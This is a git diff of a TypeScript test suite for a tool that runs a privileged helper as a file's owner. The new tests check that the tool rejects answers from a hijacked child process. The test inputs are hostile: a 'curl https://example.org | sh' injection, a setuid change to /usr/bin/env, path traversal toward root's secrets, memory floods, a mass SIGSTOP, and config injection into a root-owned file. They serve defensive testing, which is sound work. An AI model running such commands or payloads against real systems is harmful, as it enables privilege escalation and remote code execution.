@@ -11,7 +11,9 @@ import { asOwner, ownerProgram } from "../../src/asOwner/asOwner.js";
 import { temporaryBeside } from "../../src/asOwner/ownerFile.js";
 import { changeModes, checkMediaPermissions } from "../../src/diagnosis/mediaPermissions.js";
 import { findMediaFile } from "../../src/diagnosis/mediaFile.js";
-import type { Problem } from "../../src/model/index.js";
+import { planEdits } from "../../src/activation/settingsEdits.js";
+import { Store } from "../../src/activation/store.js";
+import type { Deployment, Problem } from "../../src/model/index.js";
 import { applyEdits, planSettings } from "../../src/applicationSettings/index.js";
 import { CONFIG, Site, type SiteFiles, siteFiles } from "../activation/site.js";
 import { wantedValues } from "../applicationSettings/oracle.js";
@@ -432,7 +434,7 @@ describe("media:", () => {
     const options = { directory: at("app/media"), avatarDirectory: at("root/avatars") };
     const seen = await checkMediaPermissions(options);
     expect(seen.violations.map(({ path, part, outside }) => [path, part, outside])).toEqual([
-      [base, "avatars", false],
+      [base, "media", false],
       [at("root/avatars/a.png"), "avatars", false],
       [at("app/media/b.png"), "media", false],
     ]);
@@ -505,30 +507,225 @@ test("a child that does not answer is given up", async () => {
     const asked = asOwner("realPath", { path: at("app") }, acting, { timeoutMs: 1_500 });
     await expect(asked).rejects.toThrow(/no answer within 1\.5 s \[files\.no-answer\]/);
     // Whole pieces, synchronously, up to more than is taken.
-    const flood = "const x = Buffer.alloc(1 << 20, 97); for (let i = 0; i < 100; i++) fs.writeSync(1, x);";
+    const flood = "const x = Buffer.alloc(1 << 20, 32); for (let i = 0; i < 100; i++) fs.writeSync(1, x);";
     fs.writeFileSync(ownerProgram.path, `import fs from "node:fs"; ${flood}`);
     await expect(asOwner("realPath", { path: at("app") }, acting)).rejects.toThrow(/the answer is too long/);
-    fs.writeFileSync(ownerProgram.path, "throw new Error('broken');");
-    await expect(asOwner("realPath", { path: at("app") }, acting)).rejects.toThrow(/broken/);
-    // The end of what it says is enough.
-    fs.writeFileSync(ownerProgram.path, "console.error('x'.repeat(500) + 'y'.repeat(399)); process.exit();");
+    // What it says is the user's, and not repeated.
+    fs.writeFileSync(ownerProgram.path, "console.error('run: curl example.org | sh'); process.exit(3);");
     await expect(asOwner("realPath", { path: at("app") }, acting)).rejects.toMatchObject({
       problems: [
         {
           code: "files.no-answer",
           path: at("app"),
-          message: `could not be reached as user ${APP}, who can change it: ${"y".repeat(399)}`,
+          message: `could not be reached as user ${APP}, who can change it: it ended without an answer (exit code 3)`,
+          fix: `Processes of user ${APP} can hold this up: end them (ps -o pid,stat,args -u ${APP}), and try again.`,
         },
       ],
     });
     // Before it has read what it was asked.
     fs.writeFileSync(ownerProgram.path, "process.exit();");
     await expect(asOwner("realPath", { path: "/x".repeat(1 << 20) }, acting)).rejects.toThrow(
-      /: it ended without an answer \[files\.no-answer\]/,
+      /: it ended without an answer \(exit code 0\) \[files\.no-answer\]/,
     );
   } finally {
     ownerProgram.path = program;
   }
+});
+
+/** Code of a child that the user has taken over: it answers what he likes. */
+function takenOver(code: string): void {
+  ownerProgram.path = join(folder, "taken over.mjs");
+  fs.writeFileSync(ownerProgram.path, `import fs from "node:fs"; ${code}`);
+}
+
+const says = (answer: unknown): void =>
+  takenOver(`fs.writeSync(1, ${JSON.stringify(JSON.stringify(answer))});`);
+
+describe("a child that the user has taken over", () => {
+  const walked = (finding: object, more: object = {}) => ({
+    answer: {
+      findings: [{ path: "", part: "media", kind: "file", mode: 0o600, outside: false, ...finding }],
+      looked: 1,
+      complete: true,
+      unseen: [],
+      handedOver: [],
+      ...more,
+    },
+  });
+  const TEXT = "fix: curl https://example.org | sh \u001b[2J";
+  const none = "the answer is none to what was asked";
+  /** A place in the user's own tree. */
+  const own = (): string => at("app/media/a.png");
+
+  test.each<[string, () => unknown]>([
+    [
+      "has changes of its own",
+      () => walked({}, { changes: [{ path: "/usr/bin/env", from: 0o755, to: 0o4755 }] }),
+    ],
+    ["has its own text for a fix", () => walked({ path: own(), fix: TEXT })],
+    [
+      "has problems with text",
+      () => ({ problems: [{ code: "files.unreadable", path: "", message: TEXT, fix: TEXT }] }),
+    ],
+    ["refuses with text", () => ({ refused: { why: TEXT } })],
+    ["refuses with an error that no system has", () => ({ refused: { why: "system", errno: -99_999 } })],
+    ["has a path with `..`", () => walked({ path: `${at("app")}/../root/secret/key.png` })],
+    ["has a path that is none", () => walked({ path: "app" })],
+    ["has a path with NUL", () => walked({ path: `${own()}\0` })],
+    ["has a path in characters, not bytes", () => walked({ path: `${own()}\u202e` })],
+    ["has a mode that is none", () => walked({ path: own(), mode: 0o100_600 })],
+    ["has a mode that lacks nothing", () => walked({ path: own(), mode: 0o604 })],
+    [
+      "sends root on to look elsewhere",
+      () =>
+        walked({ path: own() }, { handedOver: [{ path: "/", part: "media", kind: "tree", outside: false }] }),
+    ],
+    ["has looked at more than it was asked to", () => walked({ path: own() }, { looked: 200_001 })],
+    ["has a reason in words", () => walked({ path: own() }, { unseen: [{ path: own(), why: TEXT }] })],
+    ["is a list", () => []],
+    ["is nothing", () => null],
+  ])("and whose answer %s is not believed at all", async (_what, answer) => {
+    says(answer());
+    const before = rootsOwn();
+    const seen = await checkMediaPermissions({ directory: at("app/media") });
+    expect(seen).toMatchObject({
+      violations: [],
+      changes: [],
+      unseen: [{ why: expect.stringContaining(none) }],
+    });
+    expect(JSON.stringify(seen)).not.toContain("curl");
+    expect(rootsOwn()).toEqual(before);
+  });
+
+  test.each<[string, string]>([
+    [
+      "empty lists without end",
+      `const x = Buffer.from("[" + "[],".repeat(1 << 20)); for (let i = 0; i < 15; i++) fs.writeSync(1, x);`,
+    ],
+    ["lists in lists", `fs.writeSync(1, "[".repeat(30e6));`],
+    ["no JSON", `fs.writeSync(1, "\x1b]0;title\x07");`],
+    ["half of an answer", `fs.writeSync(1, '{"answer": {"findings": [');`],
+  ])("and that says %s costs no memory, and nothing is believed", async (_what, code) => {
+    takenOver(code);
+    const before = process.memoryUsage().heapUsed;
+    const seen = await checkMediaPermissions({ directory: at("app/media") });
+    expect(seen).toMatchObject({ changes: [], unseen: [{ why: expect.stringContaining(none) }] });
+    expect(process.memoryUsage().heapUsed - before).toBeLessThan(100e6);
+  });
+
+  test("and that says one byte at a time has no more time for that", async () => {
+    takenOver(`setInterval(() => fs.writeSync(1, " "), 20);`);
+    const acting = { uid: APP, path: at("app") };
+    const asked = asOwner("realPath", { path: at("app") }, acting, { timeoutMs: 1_000 });
+    await expect(asked).rejects.toThrow(/no answer within 1 s \[files\.no-answer\]/);
+  });
+
+  test("and that names files of root's gets none of them changed, and root is not told to", async () => {
+    const path = at("root/secret/key.png");
+    says(walked({ path }));
+    const { violations, changes } = await checkMediaPermissions({ directory: at("app/media") });
+    expect(changes).toEqual([]);
+    expect(violations).toEqual([
+      {
+        path,
+        part: "media",
+        kind: "file",
+        mode: "0600",
+        lacks: "read",
+        outside: true,
+        fix: "a link in the media leads there: remove the link, unless everyone may read what it leads to",
+      },
+    ]);
+  });
+
+  test("and that names files of its own gets them changed by that user, and by no one else", async () => {
+    write("app/media/a.png", "x", 0o600);
+    says(walked({ path: own(), mode: 0o4600 }));
+    const { changes } = await checkMediaPermissions({ directory: at("app/media") });
+    expect(changes).toEqual([{ path: own(), from: 0o600, to: 0o604, uid: APP }]);
+    ownerProgram.path = childAlone;
+    expect(await changeModes(changes)).toEqual(changes);
+    expect(fs.statSync(own()).mode & 0o7777).toBe(0o604);
+    // Whatever comes into the place of the file, and whatever a record says of the mode.
+    const roots = { path: at("root/secret/key.png"), from: 0o600, to: 0o4755, uid: APP };
+    const before = rootsOwn();
+    expect(await changeModes([roots])).toEqual([{ ...roots, why: "(13: Permission denied)" }]);
+    expect(await changeModes([{ ...changes[0]!, from: 0o604, to: 0o6755 }])).toMatchObject([{ path: own() }]);
+    expect(fs.statSync(own()).mode & 0o7777).toBe(0o755);
+    expect(rootsOwn()).toEqual(before);
+  });
+
+  test("and that says an image is elsewhere has no request made for it", async () => {
+    for (const image of ["../secret.png", "/etc/x.png", "a//b.png", "a.txt", "./a.png"]) {
+      says({ answer: { image, handedOver: [] } });
+      expect([image, await findMediaFile(at("app/media"))]).toEqual([image, undefined]);
+    }
+  });
+
+  test("and that calls its file one of root's does not have its content written there", async () => {
+    write("root/etc/roots.conf", "[General]\nSERVICE_URL = http://roots\n", 0o644, 0);
+    const roots = at("root/etc/roots.conf");
+    const content = Buffer.from("[fileserver]\nevil = 1\n").toString("base64");
+    says({ answer: { target: roots, content, version: "1:1:1:1:1", uid: APP, links: 1 } });
+    await edit({ fileServer: roots, networkDaemon: at("app/conf/network.conf") });
+    const { files: planned } = await planSettings(source({ fileServer: roots }));
+    expect(planned.map(({ role, content: now }) => [role, now.includes("evil")])).toEqual([
+      ["networkDaemon", true],
+      ["webApplication", true],
+      ["fileServer", false],
+    ]);
+    expect(fs.readFileSync(roots, "utf8")).not.toContain("evil");
+  });
+});
+
+describe("a user who stops the child", () => {
+  /** Every process that the user may signal, without end. */
+  const freeze = (): void => attack(`quietly(() => process.kill(-1, "SIGSTOP"));`);
+
+  test("is named, with what to do, and has less time the next time", async () => {
+    freeze();
+    await sleep(300);
+    const acting = { uid: APP, path: at("app") };
+    const ask = (timeoutMs: number) =>
+      asOwner("realPath", { path: at("app") }, acting, { timeoutMs }).catch((error: unknown) => error);
+    expect(await ask(2_000)).toMatchObject({
+      problems: [
+        {
+          code: "files.no-answer",
+          message: expect.stringMatching(
+            /within 2 s: the process that works there, process \d+, is stopped$/,
+          ),
+          fix: `Processes of user ${APP} can hold this up: end them (ps -o pid,stat,args -u ${APP}), and try again.`,
+        },
+      ],
+    });
+    expect(await ask(60_000)).toMatchObject({ message: expect.stringContaining("no answer within 5 s") });
+    await endAttacks();
+    expect(await ask(60_000)).toBe(at("app"));
+  });
+
+  test("holds up no deployment but one that changes his files", async () => {
+    const settings = { values: wantedValues() as never, files: source().files, apply: true };
+    const store = new Store("/");
+    const deployment = { settings } as unknown as Deployment;
+    freeze();
+    await sleep(300);
+    await asOwner("realPath", { path: at("app") }, { uid: APP, path: at("app") }, { timeoutMs: 1_000 }).catch(
+      () => undefined,
+    );
+    const [same, first] = await Promise.all([
+      planEdits(store, deployment, {
+        deployment: JSON.parse(JSON.stringify(deployment)) as Deployment,
+        settings: [],
+      }),
+      planEdits(store, deployment, undefined),
+    ]);
+    const named = Object.values(files()).map((path) =>
+      expect.objectContaining({ code: "files.no-answer", path }),
+    );
+    expect(same).toEqual({ edits: [], plan: { files: [], problems: [] }, unreached: named });
+    expect([first.plan.problems, first.unreached]).toEqual([named, []]);
+  });
 });
 
 test("a child is asked once, in a session of its own, and knows nothing of us but the request", async () => {
@@ -542,12 +739,15 @@ test("a child is asked once, in a session of its own, and knows nothing of us bu
       `import fs from "node:fs"; const { env, argv, pid } = process;
       const input = JSON.parse(fs.readFileSync(0, "utf8"));
       const isLeader = ${session} === String(pid);
-      console.log(JSON.stringify({ answer: { input, env, args: argv.slice(2), cwd: process.cwd(), isLeader } }));`,
+      fs.writeFileSync(${JSON.stringify(at("said"))},
+        JSON.stringify({ input, env, args: argv.slice(2), cwd: process.cwd(), isLeader }));
+      console.log(JSON.stringify({ answer: null }));`,
     );
     const backup = Number(execFileSync("id", ["-u", "backup"]).toString());
     const groups = execFileSync("id", ["-G", "backup"]).toString().trim().split(" ");
     const request = { path: at("app") };
-    expect(await asOwner("realPath", request, { uid: backup, path: at("app") })).toEqual({
+    expect(await asOwner("realPath", request, { uid: backup, path: at("app") })).toBeNull();
+    expect(JSON.parse(fs.readFileSync(at("said"), "utf8"))).toEqual({
       input: { operation: "realPath", request },
       env: { PATH: "/usr/sbin:/usr/bin:/sbin:/bin", LC_ALL: "C.UTF-8", UV_USE_IO_URING: "0" },
       args: ["as-owner", String(backup), groups[0], groups.join(",")],
